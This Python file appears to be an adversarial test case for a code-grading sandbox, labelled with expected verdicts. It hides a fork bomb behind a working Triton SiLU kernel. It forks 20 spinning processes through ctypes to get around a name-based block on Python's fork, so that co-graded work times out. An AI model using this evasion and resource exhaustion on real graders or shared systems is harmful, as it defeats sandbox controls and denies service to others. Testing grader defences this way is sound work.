# Twenty processes, and a thread in each, spin for as long as they are let, so that whoever is graded beside it runs out
# of time; the plan waits until somebody ends it. Each ends by itself after twenty seconds.
# verdict: runtime_error, time_limit, policy_violation
import ctypes
import os
import threading
import time

import triton
import triton.language as tl


def fork():
    """A process by C's own call: Python's is refused by its name."""
    pid = ctypes.PyDLL(None, use_errno=True).fork()
    if pid < 0:
        raise OSError(ctypes.get_errno(), "fork")
    return pid


@triton.jit
def silu_kernel(x_ptr, out_ptr, n, BLOCK: tl.constexpr):
    offsets = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    x = tl.load(x_ptr + offsets, mask=offsets < n)
    tl.store(out_ptr + offsets, x / (1 + tl.exp(-x)), mask=offsets < n)


def spin():
    end = time.monotonic() + 20
    while time.monotonic() < end:
        pass


def silu(x, out):
    for _ in range(20):
        try:
            if not fork():
                threading.Thread(target=spin).start()
                spin()
                os._exit(0)
        except OSError:
            break
    spin()
    silu_kernel[(triton.cdiv(x.numel(), 1024),)](x, out, x.numel(), BLOCK=1024)
